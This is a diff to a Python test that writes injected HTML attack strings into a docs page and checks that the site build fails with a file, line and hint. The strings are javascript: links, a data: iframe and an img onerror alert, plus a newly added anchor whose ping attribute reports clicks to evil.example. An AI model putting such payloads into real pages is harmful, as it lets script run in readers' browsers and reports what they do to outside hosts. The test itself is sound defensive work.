@@ -49,6 +49,7 @@ def test_code_written_into_a_page_fails_the_build_with_file_line_and_hint(tmp_pa
         "[Open](javascript:alert(4))",
         '<iframe src="data:text/html,x"></iframe>',
         '<p><img src="x.png" alt="" onerror="alert(5)"></p>',
+        '<p><a href="../" ping="https://evil.example/count">Home</a></p>',
     ]
     page.write_text(source + "\n\n" + "\n\n".join(attacks) + "\n", encoding="utf-8")
     lines = page.read_text(encoding="utf-8").splitlines()
@@ -65,6 +66,7 @@ def test_code_written_into_a_page_fails_the_build_with_file_line_and_hint(tmp_pa
         ("javascript:", "<a href=...> is a javascript: address"),
         ("<iframe", "<iframe...> is an embedded element"),
         ("onerror=", "<img onerror=...> is an inline event handler"),
+        ("ping=", "<a ping=...> is an address that what a reader does is sent to"),
     ]:
         assert f"docs/about.md:{line(needle)}: {message}" in result.stderr, result.stderr
     assert "hint: put behaviour in a JavaScript file under docs/assets/js/" in result.stderr
